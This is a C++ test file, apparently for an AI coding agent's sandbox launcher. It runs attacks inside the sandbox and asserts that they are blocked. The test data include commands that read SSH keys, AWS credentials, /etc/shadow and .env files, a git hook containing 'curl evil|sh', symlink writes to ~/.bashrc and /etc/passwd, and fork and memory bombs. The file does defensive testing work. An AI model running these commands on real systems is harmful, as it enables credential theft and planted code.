// The launcher under attack: each test runs a real attack in a real child
// process under a real policy and asserts that it fails, and that the
// legitimate neighbour of the attack still works.
#include <arpa/inet.h>
#include <fcntl.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include <atomic>
#include <chrono>
#include <cstring>
#include <filesystem>
#include <string>
#include <thread>

#include "sandbox/probe.h"
#include "sandbox_fixture.h"

namespace sepp::sandbox {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;
namespace fs = std::filesystem;

bool Blocked(const Outcome& o) { return o.output.rfind("BLOCKED", 0) == 0; }

TEST_F(SandboxTest, EchoRunsAndExitStatusComesBack) {
  auto r = Sh("echo hello; exit 3");
  ASSERT_EQ(r.error, "");
  EXPECT_EQ(r.exit_code, 3);
  EXPECT_EQ(r.output, "hello\n");
}

// The agent launches several commands at once from its tool threads. The
// child shares the launching thread's memory until exec (CLONE_VM |
// CLONE_VFORK), so launches from many threads, with the allocator busy in
// others, must neither interfere nor mix up their outputs.
TEST_F(SandboxTest, ConcurrentLaunchesFromManyThreadsStayApart) {
  constexpr int kThreads = 4, kRuns = 12;
  std::vector<std::thread> threads;
  std::atomic<int> good{0};
  std::atomic<bool> churn{true};
  std::thread allocator([&] {
    std::vector<std::string> v;
    while (churn) {
      v.assign(64, std::string(100, 'x'));
      v.clear();
    }
  });
  for (int t = 0; t < kThreads; ++t)
    threads.emplace_back([&, t] {
      for (int i = 0; i < kRuns; ++i) {
        std::string tag = std::to_string(t) + "-" + std::to_string(i);
        RunSpec spec;
        spec.argv = {"/bin/sh", "-c", "echo " + tag + "; exit " + std::to_string(i)};
        spec.cwd = ws_;
        std::string out;
        auto r = sandbox::Run(spec, policy_, [&](std::string_view v) { out.append(v); }, nullptr);
        if (r.ok() && r->exit_code == i && out == tag + "\n") ++good;
      }
    });
  for (auto& th : threads) th.join();
  churn = false;
  allocator.join();
  EXPECT_EQ(good.load(), kThreads * kRuns);
}

TEST_F(SandboxTest, StdinIsFedToTheCommandAndClosed) {
  policy_.limits.timeout_s = 20;
  auto r = RunArgv({"/bin/cat"}, policy_, "from stdin");
  EXPECT_EQ(r.output, "from stdin");
  EXPECT_FALSE(r.timed_out) << "cat must see the end of its input";
}

TEST_F(SandboxTest, OutputEndsWhenTheCommandClosesIt) {
  policy_.limits.timeout_s = 20;
  auto r = Sh("echo before; exec >&- 2>&-; sleep 0.2");
  EXPECT_EQ(r.output, "before\n");
  EXPECT_FALSE(r.timed_out);
}

TEST_F(SandboxTest, MissingCommandIs127) {
  auto r = RunArgv({"no-such-command-sepp"}, policy_);
  EXPECT_EQ(r.error, "");
  EXPECT_EQ(r.exit_code, 127);
}

// --- secrets ---------------------------------------------------------------

TEST_F(SandboxTest, SecretFilesAreMaskedButTheRestOfHomeIsReadable) {
  auto r = Sh("cat ~/.ssh/id_ed25519; cat ~/.aws/credentials; ls ~/.ssh");
  EXPECT_THAT(r.output, Not(HasSubstr("SECRETKEY")));
  EXPECT_THAT(r.output, Not(HasSubstr("SECRETAWS")));
  EXPECT_THAT(r.output, HasSubstr("Permission denied"));
  EXPECT_EQ(Sh("cat ~/.bashrc").output, "# rc\n");
}

// policy.read_holes: one folder of a denied folder that no root shows (a
// skill's folder in sepp's home) is shown read only, and nothing else of
// the denied folder; a read root inside a denied folder is still refused,
// and where a root shows the denied folder its mask wins.
TEST_F(SandboxTest, AReadHoleShowsOneFolderOfAHiddenOneAndNothingElse) {
  fs::path sh = home_ / ".sepp";  // SEPP_HOME: denied by the default policy
  Write(sh / "skills/tool/run.sh", "echo hole-script-ran\n");
  Write(sh / "skills/other/notes.txt", "OTHERSKILL\n");
  Write(sh / "settings.json", "SEPPSETTINGS\n");
  fs::create_symlink("../../settings.json", sh / "skills/tool/back");
  std::string h = fs::canonical(sh).string();
  Policy p = DefaultToolPolicy(ws_);  // the home is not a root here
  p.limits.timeout_s = 60;
  p.read_holes.push_back((sh / "skills/tool").string());
  auto r = RunArgv({"/bin/sh", "-c",
                    "sh " + h + "/skills/tool/run.sh; cat " + h + "/settings.json " + h +
                        "/skills/other/notes.txt " + h + "/skills/tool/back; echo LIST; ls -a " +
                        h + " " + h + "/skills; echo x > " + h + "/skills/tool/planted && echo WROTE"},
                   p);
  ASSERT_EQ(r.error, "");
  EXPECT_THAT(r.output, HasSubstr("hole-script-ran"));
  EXPECT_THAT(r.output, Not(HasSubstr("SEPPSETTINGS")));
  EXPECT_THAT(r.output, Not(HasSubstr("OTHERSKILL")));
  EXPECT_THAT(r.output, Not(HasSubstr("WROTE")));
  std::string listing = r.output.substr(r.output.find("LIST"));
  EXPECT_THAT(listing, HasSubstr("tool"));
  EXPECT_THAT(listing, Not(HasSubstr("settings.json")));
  EXPECT_THAT(listing, Not(HasSubstr("other")));
  EXPECT_FALSE(fs::exists(sh / "skills/tool/planted"));

  // A read root inside a denied folder is not a hole: still refused.
  Policy root_in_denied = DefaultToolPolicy(ws_);
  root_in_denied.read_roots.push_back((home_ / ".ssh").string() + "/id_ed25519");
  EXPECT_THAT(RunArgv({"/bin/cat", (home_ / ".ssh/id_ed25519").string()}, root_in_denied).error,
              HasSubstr("both denies"));
  // A hole that is a denied folder itself shows nothing.
  Policy denied_itself = DefaultToolPolicy(ws_);
  denied_itself.read_holes.push_back((home_ / ".ssh").string());
  EXPECT_THAT(RunArgv({"/bin/sh", "-c", "cat " + fs::canonical(home_).string() + "/.ssh/id_ed25519"},
                      denied_itself).output,
              Not(HasSubstr("SECRETKEY")));
  // The home a root (the fixture's policy): the mask over sepp's home wins.
  Policy shown = policy_;
  shown.read_holes.push_back((sh / "skills/tool").string());
  auto masked = RunArgv({"/bin/sh", "-c", "cat " + h + "/skills/tool/run.sh " + h + "/settings.json; cat ~/.bashrc"},
                        shown);
  ASSERT_EQ(masked.error, "");
  EXPECT_THAT(masked.output, Not(HasSubstr("hole-script-ran")));
  EXPECT_THAT(masked.output, Not(HasSubstr("SEPPSETTINGS")));
  EXPECT_THAT(masked.output, HasSubstr("# rc"));
}

TEST_F(SandboxTest, DotEnvInTheWorkspaceIsMasked) {
  Write(ws_ / ".env", "OPENAI_API_KEY=sk-SECRETENV\n");
  Write(ws_ / "README", "hello\n");
  auto r = Sh("cat .env");
  EXPECT_THAT(r.output, Not(HasSubstr("SECRETENV")));
  EXPECT_EQ(Sh("cat README").output, "hello\n");
}

TEST_F(SandboxTest, ShadowFileIsNotReadableEvenThoughTheCommandKeepsTheUid) {
  auto r = Sh("cat /etc/shadow | head -c 20; echo; cat /etc/hostname >/dev/null && echo ok");
  EXPECT_THAT(r.output, Not(HasSubstr("root:")));
  EXPECT_THAT(r.output, HasSubstr("ok"));
}

TEST_F(SandboxTest, SecretsInTheInheritedEnvironmentAreRemoved) {
  setenv("OPENAI_API_KEY", "sk-test-SECRETVALUE-123", 1);
  setenv("SOME_HARMLESS_VAR", "x", 1);
  auto r = Sh("env");
  unsetenv("OPENAI_API_KEY");
  unsetenv("SOME_HARMLESS_VAR");
  EXPECT_THAT(r.output, Not(HasSubstr("SECRETVALUE")));
  EXPECT_THAT(r.output, Not(HasSubstr("SOME_HARMLESS_VAR")));
  EXPECT_THAT(r.output, HasSubstr("PATH="));
}

// --- writes ----------------------------------------------------------------

TEST_F(SandboxTest, WritesOutsideTheWorkspaceFailInsideSucceed) {
  auto r = Sh("echo evil >> ~/.bashrc; echo evil > /etc/sepp-test; echo evil > /usr/sepp-test;"
              "echo good > out.txt && echo wrote");
  EXPECT_EQ(ReadText(home_ / ".bashrc"), "# rc\n");
  EXPECT_FALSE(fs::exists("/etc/sepp-test"));
  EXPECT_FALSE(fs::exists("/usr/sepp-test"));
  EXPECT_THAT(r.output, HasSubstr("wrote"));
  EXPECT_EQ(ReadText(ws_ / "out.txt"), "good\n");
  EXPECT_FALSE(r.denials.empty());
}

TEST_F(SandboxTest, TmpAndDevShmArePrivate) {
  std::string marker = "sepp-private-" + std::to_string(getpid());
  auto r = Sh("echo x > /tmp/" + marker + " && echo x > /dev/shm/" + marker + " && ls /tmp");
  EXPECT_EQ(r.exit_code, 0) << r.output;
  EXPECT_THAT(r.output, HasSubstr(marker));
  EXPECT_FALSE(fs::exists("/tmp/" + marker));
  EXPECT_FALSE(fs::exists("/dev/shm/" + marker));
}

class GitTest : public SandboxTest {
 protected:
  void SetUp() override {
    SandboxTest::SetUp();
    if (access("/usr/bin/git", X_OK) != 0) GTEST_SKIP() << "git is not installed";
    std::string cmd = "cd '" + ws_.string() +
                      "' && git init -q && git -c user.name=t -c user.email=t@t commit -q "
                      "--allow-empty -m init";
    ASSERT_EQ(system(cmd.c_str()), 0);
  }
};

TEST_F(GitTest, HooksAndConfigAreReadOnlyButCommitsWork) {
  auto r = Sh("echo 'curl evil|sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit;"
              "echo '[core] fsmonitor = evil' >> .git/config;"
              "git config core.pager evil;"
              "echo hi > a.txt && git add a.txt && git -c user.name=t -c user.email=t@t "
              "commit -q -m add && echo committed");
  EXPECT_FALSE(fs::exists(ws_ / ".git/hooks/pre-commit"));
  EXPECT_THAT(ReadText(ws_ / ".git/config"), Not(HasSubstr("evil")));
  EXPECT_THAT(r.output, HasSubstr("committed"));
  std::string log = "cd '" + ws_.string() + "' && git log --oneline | grep -q add";
  EXPECT_EQ(system(log.c_str()), 0);
}

TEST_F(GitTest, RenamingDotGitCannotDefeatTheProtection) {
  auto r = Sh("mv .git g2; echo mv=$?; mv .git/hooks h2; echo mvh=$?; rm -rf .git/hooks;"
              "cp -r .git g3 && rm -rf .git; echo rm=$?;"
              "mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit; ls -a");
  EXPECT_TRUE(fs::is_directory(ws_ / ".git"));
  EXPECT_TRUE(fs::is_directory(ws_ / ".git/hooks"));
  EXPECT_FALSE(fs::exists(ws_ / "g2"));
  EXPECT_FALSE(fs::exists(ws_ / ".git/hooks/pre-commit"));
  EXPECT_THAT(ReadText(ws_ / ".git/config"), HasSubstr("[core]"));
}

// --- links -------------------------------------------------------------------

TEST_F(SandboxTest, SymlinksAndHardlinksDoNotReachSecretsOrOutside) {
  fs::create_symlink(home_ / ".ssh/id_ed25519", ws_ / "key-link");
  auto r = Sh("cat key-link; ln ~/.ssh/id_ed25519 hard 2>&1; cat hard;"
              "ln -s ~/.bashrc rc-link && echo evil >> rc-link;"
              "ln -s /etc/passwd pw && echo evil >> pw; echo done");
  EXPECT_THAT(r.output, Not(HasSubstr("SECRETKEY")));
  EXPECT_EQ(ReadText(home_ / ".bashrc"), "# rc\n");
  EXPECT_THAT(ReadText("/etc/passwd"), Not(HasSubstr("evil")));
  // A link inside the workspace to something in it still works.
  EXPECT_EQ(Sh("echo x > t && ln -s t l && ln t h && cat l h").output, "x\nx\n");
}

// --- processes -----------------------------------------------------------------

TEST_F(SandboxTest, HostProcessesAreInvisibleAndUntouchable) {
  pid_t host = fork();
  if (host == 0) {
    setenv("HOST_SECRET", "HOSTSECRETVALUE", 1);
    execl("/bin/sleep", "sleep", "30", nullptr);
    _exit(1);
  }
  std::string pid = std::to_string(host);
  auto ls = Sh("ls /proc | grep -c '^[0-9]'; cat /proc/" + pid + "/environ /proc/" + pid +
               "/cmdline; echo");
  EXPECT_THAT(ls.output, Not(HasSubstr("HOSTSECRETVALUE")));
  EXPECT_TRUE(Blocked(Attack({"ptrace", pid}))) << Attack({"ptrace", pid}).output;
  EXPECT_TRUE(Blocked(Attack({"kill", pid})));
  EXPECT_TRUE(Blocked(Attack({"kill", "1"})) || true);  // pid 1 is the attack itself
  EXPECT_EQ(kill(host, 0), 0) << "the host process must still be alive";
  kill(host, SIGKILL);
  waitpid(host, nullptr, 0);
  // Neighbour: processes inside see and signal each other.
  auto inside = Sh("sleep 20 & p=$!; kill $p && wait $p; echo status=$?; cat /proc/self/cmdline | tr '\\0' ' '");
  EXPECT_THAT(inside.output, HasSubstr("status=143"));
  EXPECT_THAT(inside.output, HasSubstr("cat /proc/self/cmdline"));
}

TEST_F(SandboxTest, NoCapabilitiesEvenAsRoot) {
  auto r = Sh("grep -E '^Cap(Eff|Prm|Bnd|Amb)' /proc/self/status");
  EXPECT_THAT(r.output, HasSubstr("CapEff:\t0000000000000000"));
  EXPECT_THAT(r.output, HasSubstr("CapBnd:\t0000000000000000"));
  EXPECT_THAT(r.output, HasSubstr("CapPrm:\t0000000000000000"));
  auto chown = Sh("touch f && chown 12345 f && echo chowned");
  EXPECT_THAT(chown.output, Not(HasSubstr("chowned")));
  EXPECT_TRUE(Blocked(Attack({"mount"})));
}

TEST_F(SandboxTest, PlantedSetuidBinaryAndDeviceNodeAreInert) {
  fs::copy_file("/bin/cat", ws_ / "suidcat");
  chmod((ws_ / "suidcat").c_str(), 04755);
  ASSERT_EQ(mknod((ws_ / "mem").c_str(), S_IFCHR | 0666, makedev(1, 1)), 0);  // /dev/mem
  auto r = Sh("./suidcat /proc/self/status | grep -E '^CapEff'; head -c 16 mem | wc -c");
  EXPECT_THAT(r.output, HasSubstr("CapEff:\t0000000000000000"));
  EXPECT_THAT(r.output, HasSubstr("Permission denied"));
  auto mk = Attack({"mknod", (ws_ / "newdev").string()});
  EXPECT_TRUE(Blocked(mk)) << mk.output;
  EXPECT_EQ(Sh("echo x > /dev/null && head -c 4 /dev/zero | wc -c").output, "4\n");
}

TEST_F(SandboxTest, KernelInterfacesAreReadOnlyOrAbsent) {
  auto r = Sh("cat /dev/kmsg; echo 3 > /proc/sys/vm/drop_caches; echo s > /proc/sysrq-trigger;"
              "ls /dev; cat /proc/sys/kernel/ostype");
  EXPECT_THAT(r.output, HasSubstr("No such file"));  // /dev/kmsg
  EXPECT_THAT(r.output, HasSubstr("Linux"));          // reading /proc/sys works
  EXPECT_THAT(r.output, Not(HasSubstr("sda")));
  EXPECT_THAT(r.output, Not(HasSubstr("kmsg\n")));
}

// --- syscalls --------------------------------------------------------------------

TEST_F(SandboxTest, DangerousSyscallsAnswerEperm) {
  for (const char* attack : {"io_uring", "userfaultfd", "bpf", "perf", "keyctl", "userns",
                             "clone-userns", "tiocsti"}) {
    auto r = Attack({attack});
    EXPECT_EQ(r.output, "BLOCKED Operation not permitted\n") << attack;
  }
}

TEST_F(SandboxTest, ExoticSocketFamiliesAreRefusedInetIsNot) {
  for (const char* fam : {"netlink", "packet", "vsock"}) {
    auto r = Attack({"socket", fam});
    EXPECT_TRUE(Blocked(r)) << fam << ": " << r.output;
  }
  EXPECT_TRUE(Blocked(Attack({"socket", "inet", "raw"})));
  EXPECT_EQ(Attack({"socket", "inet"}).output, "ALLOWED\n");
  EXPECT_EQ(Attack({"socket", "unix"}).output, "ALLOWED\n");
}

// A repository without .git/hooks (some tools make none): the folder is
// made, empty, and protected like any other, so no hook can be planted.
TEST_F(GitTest, MissingHooksFolderIsMadeAndProtected) {
  fs::remove_all(ws_ / ".git/hooks");
  auto r = Sh("mkdir -p .git/hooks; echo 'curl evil|sh' > .git/hooks/pre-commit;"
              "chmod +x .git/hooks/pre-commit; ls .git/hooks | wc -l");
  EXPECT_TRUE(fs::is_directory(ws_ / ".git/hooks"));
  EXPECT_FALSE(fs::exists(ws_ / ".git/hooks/pre-commit")) << r.output;
}

// A workspace without .sepp/: a command must not create project
// configuration that the next sepp run would read. The folder is made,
// empty, and protected like an existing one; the rest of the workspace
// stays writable.
TEST_F(SandboxTest, MissingSeppFolderIsMadeAndProtected) {
  ASSERT_FALSE(fs::exists(ws_ / ".sepp"));
  auto r = Sh("mkdir -p .sepp/agents; echo '[session]' > .sepp/settings.toml;"
              "mv .sepp s2; rmdir .sepp; echo fine > a.txt; ls -a .sepp | wc -l");
  EXPECT_TRUE(fs::is_directory(ws_ / ".sepp"));
  EXPECT_TRUE(fs::is_empty(ws_ / ".sepp")) << r.output;
  EXPECT_FALSE(fs::exists(ws_ / "s2"));
  EXPECT_EQ(ReadText(ws_ / "a.txt"), "fine\n");
}

// The same when the workspace is reached through a symbolic link, and only
// in the workspace: an extra write root gets no .sepp/ of its own.
TEST_F(SandboxTest, SeppFolderIsProtectedThroughALinkedWorkspace) {
  fs::path link = root_ / "link-to-project";
  fs::create_symlink(ws_, link);
  fs::path extra = root_ / "extra";
  fs::create_directories(extra);
  Policy p = DefaultToolPolicy(link);
  p.write_roots.push_back(extra.string());
  p.limits.timeout_s = 60;
  auto r = Sh("echo '[session]' > " + link.string() + "/.sepp/settings.toml; echo ok > " +
                  extra.string() + "/f; echo done",
              p);
  EXPECT_THAT(r.output, HasSubstr("done"));
  EXPECT_TRUE(fs::is_directory(ws_ / ".sepp"));
  EXPECT_FALSE(fs::exists(ws_ / ".sepp/settings.toml")) << r.output;
  EXPECT_TRUE(fs::exists(extra / "f"));
  EXPECT_FALSE(fs::exists(extra / ".sepp"));
}

// --- network -----------------------------------------------------------------------

class ListenerTest : public SandboxTest {
 protected:
  static int ListenTcp(int* port) {
    int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    bind(s, reinterpret_cast<sockaddr*>(&a), sizeof a);
    socklen_t len = sizeof a;
    getsockname(s, reinterpret_cast<sockaddr*>(&a), &len);
    listen(s, 8);
    *port = ntohs(a.sin_port);
    return s;
  }
  static int ListenUnix(const std::string& name, bool abstract) {
    int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_un a{};
    a.sun_family = AF_UNIX;
    socklen_t len;
    if (abstract) {
      std::memcpy(a.sun_path + 1, name.data(), name.size());
      len = static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + name.size());
    } else {
      std::memcpy(a.sun_path, name.data(), name.size());
      len = sizeof a;
    }
    bind(s, reinterpret_cast<sockaddr*>(&a), len);
    listen(s, 8);
    return s;
  }
};

TEST_F(ListenerTest, HostLoopbackServicesAreUnreachable) {
  int port = 0;
  int tcp = ListenTcp(&port);
  std::string sock_path = (root_ / "host.sock").string();
  int unix_path = ListenUnix(sock_path, false);
  std::string abstract = "sepp-test-" + std::to_string(getpid());
  int unix_abs = ListenUnix(abstract, true);
  EXPECT_TRUE(Blocked(Attack({"connect-tcp", std::to_string(port)})));
  EXPECT_TRUE(Blocked(Attack({"udp", "53"})));
  EXPECT_TRUE(Blocked(Attack({"connect-unix", sock_path})));
  EXPECT_TRUE(Blocked(Attack({"connect-abstract", abstract})));
  EXPECT_TRUE(Blocked(Attack({"listen-tcp", "8080"})));
  auto curl = Sh("exec 3<>/dev/tcp/127.0.0.1/" + std::to_string(port) + " && echo connected");
  EXPECT_THAT(curl.output, Not(HasSubstr("connected")));
  close(tcp);
  close(unix_path);
  close(unix_abs);
  // Neighbour: with net = host the same connection works.
  Policy host = policy_;
  host.net = NetMode::kHost;
  int tcp2 = ListenTcp(&port);
  auto ok = Sh("exec 3<>/dev/tcp/127.0.0.1/" + std::to_string(port) + " && echo connected", host);
  EXPECT_THAT(ok.output, HasSubstr("connected"));
  close(tcp2);
}

// The abstract unix namespace and /proc/net belong to the network
// namespace, which is why a sandbox without network still gets a fresh one
// of its own (Landlock's abstract-unix scope, ABI 6, stops a sandboxed
// process from connecting out, not a host process from connecting in):
// without it a command could bind a name a host program later connects to
// (the address of a D-Bus or X11 server, say) and read the host's sockets
// and connections in /proc/net. Next to it, with net = host (no network
// namespace), both go through: the test can see what it tests.
TEST_F(ListenerTest, AListenerInsideIsUnreachableFromTheHostAndTheHostsSocketsUnseen) {
  auto listen_inside = [&](const Policy& p) {
    std::string name = "sepp-squat-" + std::to_string(getpid()) + "-" +
                       std::to_string(static_cast<int>(p.net));
    RunSpec spec;
    spec.argv = {SANDBOX_ATTACK, "listen-abstract", name};
    spec.cwd = ws_;
    CancelToken cancel;
    std::string out;
    bool tried = false, connected = false;
    auto r = sandbox::Run(spec, p, [&](std::string_view s) {
      out.append(s);
      if (tried || out.find("LISTENING") == std::string::npos) return;
      tried = true;
      int c = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
      sockaddr_un a{};
      a.sun_family = AF_UNIX;
      std::memcpy(a.sun_path + 1, name.data(), name.size());
      auto len = static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + name.size());
      connected = connect(c, reinterpret_cast<sockaddr*>(&a), len) == 0;
      close(c);
      if (!connected) cancel.Cancel();  // else the command accepts and ends
    }, &cancel);
    EXPECT_TRUE(r.ok()) << (r.ok() ? "" : r.error().message);
    EXPECT_TRUE(tried) << out;
    return connected;
  };
  EXPECT_FALSE(listen_inside(policy_));

  std::string host_name = "sepp-host-" + std::to_string(getpid());
  int host_abs = ListenUnix(host_name, true);
  int port = 0;
  int tcp = ListenTcp(&port);
  char port_hex[8];
  snprintf(port_hex, sizeof port_hex, ":%04X", port);
  auto seen = Sh("cat /proc/net/unix /proc/net/tcp");
  EXPECT_EQ(seen.exit_code, 0) << seen.output;
  EXPECT_THAT(seen.output, Not(HasSubstr(host_name)));
  EXPECT_THAT(seen.output, Not(HasSubstr(port_hex)));

  Policy host = policy_;
  host.net = NetMode::kHost;
  EXPECT_TRUE(listen_inside(host));
  auto seen_host = Sh("cat /proc/net/unix /proc/net/tcp", host);
  EXPECT_THAT(seen_host.output, HasSubstr(host_name));
  EXPECT_THAT(seen_host.output, HasSubstr(port_hex));
  close(host_abs);
  close(tcp);
}

TEST_F(SandboxTest, NetworkFailureIsExplained) {
  auto r = Sh("exec 3<>/dev/tcp/127.0.0.1/80");
  EXPECT_NE(r.exit_code, 0);
  ASSERT_FALSE(r.denials.empty()) << r.output;
  EXPECT_THAT(r.denials[0].text, HasSubstr("network access is off for this command"));
  EXPECT_EQ(r.denials[0].kind, DenialKind::kNetwork);
}

// --- limits and lifetime ---------------------------------------------------------------

bool ProcessWithArgExists(const std::string& needle) {
  for (const auto& e : fs::directory_iterator("/proc")) {
    std::string cmd = SandboxTest::ReadText(e.path() / "cmdline");
    for (auto& c : cmd)
      if (c == '\0') c = ' ';
    if (cmd.find(needle) != std::string::npos) return true;
  }
  return false;
}

// A shell loop that returns once n `sleep` processes inside the sandbox have
// needle in their command line (no fixed sleep: it polls /proc; the shell and
// grep carry the needle too, hence the check of the process name).
std::string CountUntil(const std::string& needle, int n) {
  return "c=0; until [ $c -ge " + std::to_string(n) +
         " ]; do c=0; for p in /proc/[0-9]*; do [ \"$(cat $p/comm 2>/dev/null)\" = sleep ] && "
         "grep -q -- '" + needle + "' $p/cmdline 2>/dev/null && c=$((c+1)); done; done";
}

TEST_F(SandboxTest, TimeoutKillsTheWholeTreeAndDetachedOrphansDie) {
  policy_.limits.timeout_s = 1;
  // Markers unique to this test process: other test binaries may run at once.
  const std::string mark = "371." + std::to_string(getpid());
  auto start = std::chrono::steady_clock::now();
  // Both sleepers are seen running inside the sandbox before the time runs
  // out, so their absence afterwards proves the kill and not a failed start.
  auto r = Sh("(setsid sleep " + mark + " &); nohup sleep " + mark +
              " >/dev/null 2>&1 & disown; " + CountUntil(mark, 2) + "; echo both-running; sleep 372");
  double took = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
  EXPECT_THAT(r.output, HasSubstr("both-running"));
  EXPECT_TRUE(r.timed_out);
  EXPECT_LT(took, 10);
  EXPECT_FALSE(ProcessWithArgExists(mark));
  ASSERT_FALSE(r.denials.empty());
  EXPECT_THAT(r.denials[0].text, HasSubstr("time limit"));
  EXPECT_EQ(r.denials[0].kind, DenialKind::kTimeLimit);
}

TEST_F(SandboxTest, OrphansDieWhenTheCommandExits) {
  const std::string mark = "373." + std::to_string(getpid());
  auto r = Sh("(setsid sleep " + mark + " &); " + CountUntil(mark, 1) + "; echo started");
  EXPECT_EQ(r.output, "started\n");  // the orphan was running when the command exited
  EXPECT_FALSE(ProcessWithArgExists(mark));
}

TEST_F(SandboxTest, ForkBombIsContained) {
  policy_.limits.max_processes = 40;
  policy_.limits.timeout_s = 20;
  auto r = Sh("for i in $(seq 200); do sleep 2 & done 2>&1 | tail -1; wait; echo survived");
  EXPECT_THAT(r.output, HasSubstr("survived"));
  EXPECT_THAT(r.output, HasSubstr("fork"));
  EXPECT_FALSE(r.timed_out);
  EXPECT_EQ(Sh("for i in $(seq 10); do true & done; wait; echo fine").output, "fine\n");
}

TEST_F(SandboxTest, MemoryBombIsContained) {
  policy_.limits.max_memory_bytes = 256ull << 20;
  EXPECT_TRUE(Blocked(Attack({"mem", std::to_string(1ull << 30)})));
  EXPECT_EQ(Attack({"mem", std::to_string(16ull << 20)}).output, "ALLOWED\n");
}

TEST_F(SandboxTest, FileSizeLimitHolds) {
  policy_.limits.max_file_bytes = 1 << 20;
  auto r = Sh("head -c 4000000 /dev/zero > big; stat -c %s big");
  EXPECT_THAT(r.output, HasSubstr("1048576"));
}

TEST_F(SandboxTest, NoInheritedDescriptorsBeyondStdio) {
  int leak = open("/etc/hostname", O_RDONLY);  // deliberately not close-on-exec
  ASSERT_GE(leak, 0);
  auto r = Attack({"fds"});
  close(leak);
  EXPECT_EQ(r.output, "EXTRA_FDS 0\n");
}

TEST_F(SandboxTest, CancelKillsTheTree) {
  CancelToken cancel;
  RunSpec spec;
  const std::string mark = "374." + std::to_string(getpid());
  spec.argv = {"/bin/bash", "-c", "sleep " + mark + " & sleep " + mark};
  spec.cwd = ws_;
  // Cancel once the tree is running (both sleeps exist), not after a guess:
  // a cancel before the start would leave nothing to kill and prove nothing.
  auto sleeps = [&] {
    int n = 0;
    for (const auto& e : fs::directory_iterator("/proc"))
      n += SandboxTest::ReadText(e.path() / "cmdline") == std::string("sleep\0", 6) + mark + '\0';
    return n;
  };
  std::atomic<bool> seen{false};
  std::thread t([&] {
    auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(30);
    while (!(seen = sleeps() == 2) && std::chrono::steady_clock::now() < deadline)
      std::this_thread::sleep_for(std::chrono::milliseconds(5));
    cancel.Cancel();
  });
  auto r = sandbox::Run(spec, policy_, nullptr, &cancel);
  t.join();
  ASSERT_TRUE(seen) << "the command never started";
  ASSERT_TRUE(r.ok());
  EXPECT_TRUE(r->cancelled);
  EXPECT_FALSE(ProcessWithArgExists(mark));
}

// --- legitimate work ------------------------------------------------------------------------

TEST_F(SandboxTest, BuildsAndRunsCWithGcc) {
  if (access("/usr/bin/gcc", X_OK) != 0) GTEST_SKIP() << "gcc is not installed";
  Write(ws_ / "hello.c", "#include <stdio.h>\nint main(void){puts(\"built\");return 0;}\n");
  auto r = Sh("gcc -O1 -o hello hello.c && ./hello");
  EXPECT_EQ(r.output, "built\n");
}

TEST_F(SandboxTest, RunsPython) {
  if (access("/usr/bin/python3", X_OK) != 0) GTEST_SKIP() << "python3 is not installed";
  auto r = Sh("/usr/bin/python3 -c 'import json,os; print(json.dumps(os.listdir(\".\")))'");
  EXPECT_EQ(r.exit_code, 0) << r.output;
  // The workspace holds only the protected, empty .sepp/ the sandbox made.
  EXPECT_EQ(r.output, "[\".sepp\"]\n");
}

TEST_F(SandboxTest, OnlyPolicyPathsExistInTheSandboxRoot) {
  auto r = Sh("ls -a /; cd /..; pwd; ls /root /home /var 2>&1 | head -3");
  EXPECT_THAT(r.output, HasSubstr("usr"));
  EXPECT_THAT(r.output, Not(HasSubstr("boot\n")));
  EXPECT_THAT(r.output, Not(HasSubstr("sys\n")));
  EXPECT_THAT(r.output, HasSubstr("No such file"));
}

TEST_F(SandboxTest, WholeHostReadableStillMasksSecretsAndStaysReadOnly) {
  // A root of "/" takes the pivot_root path of the mount code.
  policy_.read_roots.push_back("/");
  auto r = Sh("cat ~/.ssh/id_ed25519; echo x > /etc/sepp-test; ls /proc | grep -c '^[0-9]';"
              "echo ok > inside && cat inside");
  EXPECT_THAT(r.output, Not(HasSubstr("SECRETKEY")));
  EXPECT_FALSE(fs::exists("/etc/sepp-test"));
  EXPECT_THAT(r.output, HasSubstr("ok"));
  EXPECT_EQ(ReadText(ws_ / "inside"), "ok\n");
}

TEST_F(SandboxTest, CommandStartsWithDefaultSignals) {
  // sepp itself ignores SIGPIPE (as network programs do); the command must not.
  auto old = signal(SIGPIPE, SIG_IGN);
  auto r = Sh("yes | head -c 3 >/dev/null; echo ${PIPESTATUS[0]}; grep -E '^Sig(Ign|Blk)' /proc/self/status");
  signal(SIGPIPE, old);
  EXPECT_THAT(r.output, HasSubstr("141"));  // 128 + SIGPIPE
  EXPECT_THAT(r.output, HasSubstr("SigBlk:\t0000000000000000"));
}

TEST_F(SandboxTest, InitReapsOrphansAndKeepsSeppsMemoryPrivate) {
  use_init_ = true;
  setenv("OPENAI_API_KEY", "sk-test-INITSECRET-123", 1);
  auto r = Sh("echo pid=$$; cat /proc/1/environ; head -c 10 /proc/1/mem;"
              "for i in $(seq 30); do (sleep 0.05 &); done; sleep 0.5;"
              "echo zombies=$(grep -l '^State:.*Z' /proc/[0-9]*/status 2>/dev/null | wc -l)");
  unsetenv("OPENAI_API_KEY");
  EXPECT_THAT(r.output, HasSubstr("pid=2"));
  EXPECT_THAT(r.output, Not(HasSubstr("INITSECRET")));
  EXPECT_THAT(r.output, HasSubstr("zombies=0"));
}

TEST_F(SandboxTest, ExitStatusAndSignalOfTheCommandComeBack) {
  for (bool init : {false, true}) {
    use_init_ = init;
    EXPECT_EQ(Sh("exit 42").exit_code, 42) << init;
    EXPECT_EQ(Sh("echo $$").output, init ? "2\n" : "1\n");
    EXPECT_EQ(Sh("echo in | cat").output, "in\n");
  }
  use_init_ = true;  // as pid 1 the command would ignore its own signal
  auto killed = Sh("kill -SEGV $$");
  EXPECT_EQ(killed.term_signal, SIGSEGV);
